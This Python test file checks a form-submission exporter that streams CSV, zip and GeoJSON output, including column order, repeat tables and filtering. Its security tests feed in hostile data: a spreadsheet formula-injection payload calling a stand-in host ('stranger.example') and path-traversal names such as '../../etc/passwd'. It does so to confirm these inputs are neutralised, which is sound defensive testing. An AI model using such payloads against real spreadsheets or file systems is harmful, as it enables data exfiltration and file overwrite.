"""Exports: the columns that ODK Central's scripts expect, in order, safe in a spreadsheet, and a stream."""

import csv
import io
import json
from collections.abc import Iterator
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forms.base.formula import FORMULA_STARTS
from sync.export.column import ExportOptions, safe_name
from sync.export.export import csv_zip, geojson, root_csv
from sync.instance.geo import NUMBER
from sync.intake import submissions
from sync.lists.selection import Selection
from tests.station import BEGINNING, Station
from tests.sync.club import club, everything, form_of, send

NAMES = {7: "Awa"}


@pytest.fixture
def station(station: Station) -> Station:
    """A project with the club's sheet."""
    station.publish(club())
    return station


def rows(
    station: Station, options: ExportOptions | None = None, selection: Selection | None = None
) -> list[list[str]]:
    """The root table, read back."""
    chunks = root_csv(
        station.storage.reading,
        form_of(station),
        selection or everything(station),
        options or ExportOptions(),
        names=NAMES,
    )
    return list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))


def archive(station: Station, options: ExportOptions | None = None) -> ZipFile:
    """The zip, opened."""
    chunks = csv_zip(
        station.storage.reading,
        station.blobs,
        form_of(station),
        everything(station),
        options or ExportOptions(),
        names=NAMES,
    )
    return ZipFile(io.BytesIO(b"".join(chunks)))


def table(opened: ZipFile, name: str) -> list[dict[str, str]]:
    """One CSV of a zip, by its headers."""
    return list(csv.DictReader(io.StringIO(opened.read(name).decode(), newline="")))


def test_the_sheets_columns_stand_in_the_forms_order_newest_sheet_first(station: Station) -> None:
    send(
        station,
        1,
        {"/lieu/village": "Kita", "/lieu/gps": "12.65 -8 320 4.5", "/presents": "12", "/duree": "1.5"},
    )
    send(station, 2, {"/themes": "mgf vbg", "/photo": "p.jpg"})
    header, newest, oldest = rows(station)
    assert header == [
        "SubmissionDate", "lieu-village", "lieu-gps-Latitude", "lieu-gps-Longitude", "lieu-gps-Altitude",
        "lieu-gps-Accuracy", "themes", "presents", "duree", "photo", "meta-instanceID", "KEY", "SubmitterID",
        "SubmitterName", "AttachmentsPresent", "AttachmentsExpected", "Status", "ReviewState", "DeviceID", "Edits",
        "FormVersion",
    ]  # fmt: skip
    assert oldest == [
        "2020-01-01T00:01:00.000Z", "Kita", "12.65", "-8", "320", "4.5", "", "12", "1.5", "", "uuid:1", "uuid:1", "7",
        "Awa", "0", "0", "", "", "collect:x", "0", "1",
    ]  # fmt: skip
    assert newest[header.index("AttachmentsPresent")] == "1"
    short = rows(station, ExportOptions(group_paths=False))[0]
    assert short[1:3] == ["village", "gps-Latitude"]


def test_the_first_byte_leaves_before_the_choices_are_read(station: Station) -> None:
    send(station, 1, {"/themes": "mgf vbg"})
    statements: list[str] = []
    with station.storage.reading() as db:
        db.conn.set_trace_callback(statements.append)
    options = ExportOptions(split_select_multiples=True)
    chunks = root_csv(station.storage.reading, form_of(station), everything(station), options, names=NAMES)
    first = next(chunks)
    assert first
    assert not any("themes" in statement for statement in statements)
    header = (first + next(chunks)).decode().splitlines()[0].split(",")
    assert header[0] == "SubmissionDate"
    assert {"themes", "themes/mgf", "themes/vbg"} <= set(header)
    assert sum("themes" in statement for statement in statements) == 1


def test_chosen_themes_become_columns_of_what_occurs(station: Station) -> None:
    send(station, 1, {"/themes": "mgf vbg"})
    send(station, 2, {"/themes": "autre"})
    send(station, 3, {"/presents": 1})
    header, third, second, first = rows(station, ExportOptions(split_select_multiples=True))
    at = header.index("themes")
    assert header[at : at + 4] == ["themes", "themes/vbg", "themes/mgf", "themes/autre"]
    assert [row[at : at + 4] for row in (first, second, third)] == [
        ["mgf vbg", "1", "1", "0"],
        ["autre", "0", "0", "1"],
        ["", "", "", ""],
    ]


def test_repeats_have_files_of_their_own_and_name_the_row_around_them(station: Station) -> None:
    members = [
        {"nom": "Awa", "age": 31, "enfant": [{"prenom": "Ba"}, {"prenom": "Bi"}]},
        {"nom": "Oumou", "enfant": [{"prenom": "Bo"}]},
    ]
    send(station, 1, {"/membre": members})
    send(station, 2, {"/membre": [{"nom": "Kani"}]})
    opened = archive(station)
    assert opened.namelist() == ["club.csv", "club-membre.csv", "club-enfant.csv"]
    assert [(row["nom"], row["PARENT_KEY"], row["KEY"]) for row in table(opened, "club-membre.csv")] == [
        ("Kani", "uuid:2", "uuid:2/membre[1]"),
        ("Awa", "uuid:1", "uuid:1/membre[1]"),
        ("Oumou", "uuid:1", "uuid:1/membre[2]"),
    ]
    assert [(row["prenom"], row["PARENT_KEY"], row["KEY"]) for row in table(opened, "club-enfant.csv")] == [
        ("Ba", "uuid:1/membre[1]", "uuid:1/membre[1]/enfant[1]"),
        ("Bi", "uuid:1/membre[1]", "uuid:1/membre[1]/enfant[2]"),
        ("Bo", "uuid:1/membre[2]", "uuid:1/membre[2]/enfant[1]"),
    ]


def test_pictures_come_along_once_and_under_names_that_stay_in_the_folder(station: Station) -> None:
    picture = station.blobs.put(b"picture")
    other = station.blobs.put(b"another")
    for number, (name, blob) in enumerate(
        [("../a.jpg", picture), ("../a.jpg", picture), ("../a.jpg", other)], 1
    ):
        send(station, number, {"/photo": name})
        with station.storage.writing() as db:
            db.execute(
                "UPDATE submission_attachment SET sha256 = ? WHERE version_id = ?", [blob.sha256, number]
            )
    names = [name for name in archive(station).namelist() if name.startswith("media/")]
    assert names == ["media/.._a.jpg", "media/.._a-2.jpg"]
    assert not any("media" in name for name in archive(station, ExportOptions(attachments=False)).namelist())


def test_what_an_earlier_version_asked_is_there_when_it_is_wanted(station: Station) -> None:
    send(station, 1, {"/presents": "3", "/duree": "2"})
    station.publish(
        club("2", presents="text", more="|  | text | note | Note |").replace("| decimal  ", "| note     ")
    )
    send(station, 2, {"/presents": "beaucoup", "/note": "n"}, version="2")
    header, new, old = rows(station)
    at = header.index("presents")
    assert (new[at], old[at]) == ("beaucoup", "3")
    assert [row[header.index("FormVersion")] for row in (new, old)] == ["2", "1"]
    assert "note" in header


TEXTS = st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=30)
FORMULAS = st.builds(str.__add__, st.sampled_from(FORMULA_STARTS), TEXTS)


@given(text=TEXTS | FORMULAS.filter(str.isprintable))
@settings(max_examples=60)
def test_no_text_becomes_a_formula_and_none_is_changed_otherwise(station: Station, text: str) -> None:
    with station.storage.writing() as db:
        for table_name in (
            "submission_attachment",
            "change",
            "audit",
            "submission_version",
            "submission",
            "sheet_club",
        ):
            db.execute(f"DELETE FROM {table_name}")
    send(station, 1, {"/lieu/village": text})
    header, row = rows(station)
    cell = row[header.index("lieu-village")]
    kept = "" if text.isspace() or text == "NaN" else text  # JavaRosa writes NaN for no number
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (kept, f"'{kept}")


@given(words=st.lists(FORMULAS | st.sampled_from(["12.5", "-8", "+3", "1e3", "nan"]), min_size=1, max_size=4))
@settings(max_examples=60)
def test_what_becomes_several_columns_holds_no_formula_either(station: Station, words: list[str]) -> None:
    """A point, and choices that are split: whoever writes the XML by hand puts there what they like."""
    text = " ".join(" ".join(words).split())
    with station.storage.writing() as db:
        for name in (
            "submission_attachment",
            "change",
            "audit",
            "submission_version",
            "submission",
            "sheet_club",
        ):
            db.execute(f"DELETE FROM {name}")
    send(station, 1, {"/lieu/gps": text, "/themes": text, "/presents": -5, "/duree": -1.5})
    _header, row = rows(station, ExportOptions(split_select_multiples=True))
    risky = [cell for cell in row if cell.startswith(FORMULA_STARTS)]
    assert "-5" in row
    assert "-1.5" in row
    assert all(NUMBER.fullmatch(cell) for cell in risky), risky


def test_a_point_that_is_none_is_no_point(station: Station) -> None:
    send(station, 1, {"/lieu/gps": '=WEBSERVICE("http://stranger.example/?"&A2) 2 3 4'})
    send(station, 2, {"/lieu/gps": "12.65 -8.0 320 4.5"})
    header, well, none = rows(station)
    at = header.index("lieu-gps-Latitude")
    assert well[at : at + 4] == ["12.65", "-8.0", "320", "4.5"]
    assert none[at : at + 4] == ["", "", "", ""]


def test_what_is_deleted_or_another_csos_is_left_out(station: Station) -> None:
    send(station, 1, {"/presents": 1}, cso="TAGNE")
    send(station, 2, {"/presents": 2}, cso="APDF")
    send(station, 3, {"/presents": 3}, cso="TAGNE")
    with station.storage.writing() as db:
        submissions.set_deleted(db, [3], is_deleted=True, now=BEGINNING, actor_id=None)
    form = form_of(station)
    keys = [row[rows(station)[0].index("KEY")] for row in rows(station)[1:]]
    assert keys == ["uuid:2", "uuid:1"]
    own = rows(station, selection=Selection(form.id, frozenset(["tagne"])))
    assert [row[own[0].index("KEY")] for row in own[1:]] == ["uuid:1"]
    assert len(rows(station, selection=Selection(form.id, frozenset()))) == 1


def test_an_export_that_nobody_waits_for_any_more_leaves_nothing_open(station: Station) -> None:
    send(station, 1, {"/presents": 1})
    chunks = csv_zip(
        station.storage.reading,
        station.blobs,
        form_of(station),
        everything(station),
        ExportOptions(),
        names=NAMES,
    )
    assert isinstance(chunks, Iterator)
    next(chunks)
    assert station.storage.connection().conn.in_transaction
    chunks.close()  # type: ignore[attr-defined]
    assert not station.storage.connection().conn.in_transaction


def test_places_are_features(station: Station) -> None:
    send(station, 1, {"/lieu/gps": "12.65 -8 320 4.5"})
    send(station, 2, {"/lieu/gps": "ici"})
    send(station, 3, {"/presents": 1})
    told = json.loads(b"".join(geojson(station.storage.reading, form_of(station), everything(station))))
    assert [feature["id"] for feature in told["features"]] == ["uuid:1"]
    assert told["features"][0]["geometry"]["coordinates"] == [-8.0, 12.65, 320.0]
    assert told["features"][0]["properties"]["fieldpath"] == "/lieu/gps"


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b", "CON:x", "\\\\host\\x", "..", "", "a\nb"])
def test_a_hostile_name_stays_where_it_is_unpacked(name: str) -> None:
    safe = safe_name(name)
    assert safe
    assert not set(safe) & set('/\\:<>"|?*\n')
    assert safe not in (".", "..")
